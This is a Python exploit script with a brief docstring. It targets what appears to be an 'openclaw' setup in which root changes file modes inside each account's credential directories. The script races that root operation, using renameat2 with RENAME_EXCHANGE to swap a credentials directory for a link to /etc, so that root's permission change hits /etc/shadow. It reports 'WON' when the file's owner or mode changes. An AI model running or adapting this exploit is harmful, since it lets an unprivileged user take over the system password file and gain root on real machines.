"""Exchanges directories of an account's for links to /etc between root's last look at a file and its change.

exchange.py COUNT SECONDS, in a home with .openclaw-1, .openclaw-2 … whose credentials have a file called shadow each, and
links e1, e2 … to /etc. Waits until root changes one file's mode; the next in line is exchanged after that time, for a moment.
"""

import ctypes
import os
import sys
import time

EXCHANGE = 2
library = ctypes.CDLL(None, use_errno=True)
count, delay = int(sys.argv[1]), float(sys.argv[2])
credentials = {number: f".openclaw-{number}/credentials" for number in range(1, count + 1)}
order = sorted(credentials, key=lambda number: credentials[number])
rounds = 0


def exchange(number: int) -> None:
    library.renameat2(-100, credentials[number].encode(), -100, f"e{number}".encode(), EXCHANGE)


for index, (number, following) in enumerate(zip(order, order[1:])):
    while os.stat(f"{credentials[number]}/shadow").st_mode & 0o777 != 0o600:
        pass
    time.sleep(delay + 0.0003 * index)
    exchange(following)
    time.sleep(0.02)
    rounds += 1
    won = os.stat("/etc/shadow")
    exchange(following)
    print("WON" if won.st_uid == os.getuid() or won.st_mode & 0o777 != 0o640 else "round", rounds, flush=True)
